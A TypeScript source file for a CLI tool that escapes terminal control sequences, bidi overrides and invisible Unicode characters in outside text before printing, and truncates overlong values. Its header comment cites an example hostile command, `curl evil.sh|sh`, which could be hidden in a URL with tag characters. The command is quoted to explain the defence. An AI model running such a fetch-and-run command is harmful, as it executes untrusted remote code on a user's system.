// Text from outside (an API answer, a delivery, a file) made safe to print on a terminal. The
// one filter of every human-readable line the CLI, the sandbox and the inspector write. It
// imports nothing: anything may use it.
//
// A terminal acts on control characters: ESC starts sequences that clear the screen, move the
// cursor or write the clipboard (OSC 52), CR returns to the line start so later text prints
// over earlier text, U+009B is a one-character CSI on terminals that take C1 controls. Bidi
// controls reorder what is shown (U+202E shows "exe.txt" as "txt.exe"), and invisible
// characters hide text: the tag characters U+E0020-U+E007F are an invisible copy of ASCII, so
// a URL can carry a hidden `curl evil.sh|sh` that a copy and paste takes along. Each is shown as
// a visible escape instead: `\x1b`, `\r`, `\u202e`, `\u{e0041}`.
// See https://invisible-island.net/xterm/ctlseqs/ctlseqs.html, https://www.unicode.org/reports/tr9/
// (bidi controls) and https://www.unicode.org/reports/tr44/#Default_Ignorable_Code_Point.

// What is escaped, by class (Unicode properties, as the JavaScript engine's Unicode data knows
// them), not by a list that misses the next invisible character:
// - Cc: controls (C0, DEL, C1);
// - Cf: format characters (bidi controls, zero-width characters, the soft hyphen, tag characters,
//   the interlinear annotation characters U+FFF9-U+FFFB, ...);
// - Cs: surrogates; a `u` regular expression sees a lone surrogate as one code point (a valid
//   pair is one astral code point and is not matched);
// - Zl, Zp: the line and paragraph separators U+2028, U+2029;
// - Co: private use (whatever glyph a font puts there, or none);
// - Cn: unassigned code points and noncharacters (nothing an API has reason to send; a newer
//   Unicode version may assign some: escaped until the runtime's Unicode data knows them);
// - Default_Ignorable_Code_Point: what a conforming renderer shows as nothing (the Hangul
//   fillers U+115F, U+1160, U+3164, U+FFA0, U+034F, variation selectors, U+180B-U+180F,
//   U+2060-U+206F, ...), see https://www.unicode.org/Public/UCD/latest/ucd/DerivedCoreProperties.txt.
const HIDDEN = String.raw`\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}`
const UNSAFE = new RegExp(`[${HIDDEN}]`, 'gu')
const ONE_UNSAFE = new RegExp(`^[${HIDDEN}]$`, 'u')
// The same, but keeping the line feed: for text of several lines the program composed itself.
const UNSAFE_BUT_LF = new RegExp(`(?!\\n)[${HIDDEN}]`, 'gu')
// The same, but keeping JSON's whitespace (tab, line feed, carriage return): JSON.stringify
// escapes every C0 control inside a string, so those three are found only between tokens.
const JSON_UNSAFE = new RegExp(`(?![\\t\\n\\r])[${HIDDEN}]`, 'gu')

/**
 * How much of one value from outside a terminal line shows, in UTF-16 code units (what
 * `string.length` counts), the marker of what was left out included. Endpoint URLs, dates,
 * handles and messages are far shorter; a hostile 100,000-character value would bury the table
 * it is in. `--json` prints values in full.
 */
export const TERMINAL_MAX_LENGTH = 500

const NAMED: Readonly<Record<string, string>> = { '\n': '\\n', '\r': '\\r', '\t': '\\t' }

/**
 * The visible escape of one unsafe code point, in JavaScript's string-literal syntax: `\n`, `\r`,
 * `\t`, `\xHH` below U+0100, `\uHHHH` up to U+FFFF (a lone surrogate included), `\u{HHHHH}` above.
 */
function escape (ch: string): string {
  const named = NAMED[ch]
  if (named !== undefined) return named
  const code = ch.codePointAt(0)!
  const hex = code.toString(16)
  if (code < 0x100) return `\\x${hex.padStart(2, '0')}`
  return code <= 0xffff ? `\\u${hex.padStart(4, '0')}` : `\\u{${hex}}`
}

/** The number of code points in `text` (a lone surrogate counts as one). */
function codePoints (text: string): number {
  let n = text.length
  for (let i = 0; i < text.length - 1; i++) {
    const c = text.charCodeAt(i)
    if (c >= 0xd800 && c <= 0xdbff) {
      const d = text.charCodeAt(i + 1)
      if (d >= 0xdc00 && d <= 0xdfff) { n--; i++ }
    }
  }
  return n
}

/** The marker of a shortened value: `…(+99,950 chars)`, counting the code points left out. */
export const leftOut = (chars: number): string => `…(+${chars.toLocaleString('en-US')} chars)`

/**
 * `text` with every unsafe code point escaped; when that is longer than `max`, only its start
 * (whole code points and whole escapes, never half of one) and `marker(code points left out)`,
 * at most `max` long in all.
 */
function visible (text: string, max: number, marker: (left: number) => string): string {
  // An escape is never shorter than what it stands for: text longer than max is cut whatever it holds.
  if (text.length <= max) {
    const escaped = text.replace(UNSAFE, escape)
    if (escaped.length <= max) return escaped
  }
  // The marker is widest when the most is left out: leave room for that one.
  const room = max - marker(codePoints(text)).length
  let out = ''
  let used = 0
  for (const ch of text) {
    const shown = ONE_UNSAFE.test(ch) ? escape(ch) : ch
    if (out.length + shown.length > room) break
    out += shown
    used += ch.length
  }
  return out + marker(codePoints(text.slice(used)))
}

/**
 * One value from outside, for a terminal: every control, format, separator, private-use,
 * unassigned and default-ignorable code point and every lone surrogate (the line feed included)
 * replaced by its visible escape; printable text of every script, emoji, combining marks and
 * the backslash kept as they are. A value longer than `max` shows its start and
 * `…(+N chars)`.
 * @param max the most UTF-16 code units shown, the marker included. @default TERMINAL_MAX_LENGTH (500)
 */
export function terminalText (text: string, max: number = TERMINAL_MAX_LENGTH): string {
  return visible(text, max, leftOut)
}

/**
 * Text of several lines the program composed (values from outside already passed through
 * `terminalText`), for a terminal: as `terminalText`, but line feeds are kept, and nothing is
 * shortened (it may be a whole `--json` document).
 */
export function terminalOutput (text: string): string {
  return text.replace(UNSAFE_BUT_LF, escape)
}

/**
 * One value from outside shown on a single line (an error body, the start of an answer): runs
 * of tabs and line ends (LF, CRLF) become one space, every other unsafe character its visible
 * escape (a lone CR included: it would print over the line), and the ends are trimmed. Longer
 * than `max`, its start and `marker(code points left out)`.
 * @param max the most UTF-16 code units shown, the marker included. @default TERMINAL_MAX_LENGTH (500)
 * @param marker what ends a shortened line. @default `…(+N chars)`
 */
export function terminalLine (text: string, max: number = TERMINAL_MAX_LENGTH, marker: (left: number) => string = leftOut): string {
  return visible(text.replace(/(?:\r\n|[\t\n])+/g, ' ').trim(), max, marker)
}

/**
 * JSON text made safe for a terminal and still exact JSON: every code point `terminalText`
 * escapes (JSON.stringify escapes C0 controls and lone surrogates itself, and leaves the rest
 * raw) is written as `\uXXXX` escapes (a surrogate pair for one above U+FFFF), which parse back
 * to the very same string. Outside strings JSON text has none of them but its whitespace, kept.
 * Never shortened.
 */
export function terminalJson (json: string): string {
  return json.replace(JSON_UNSAFE, (ch) => {
    let out = ''
    for (let i = 0; i < ch.length; i++) out += `\\u${ch.charCodeAt(i).toString(16).padStart(4, '0')}`
    return out
  })
}
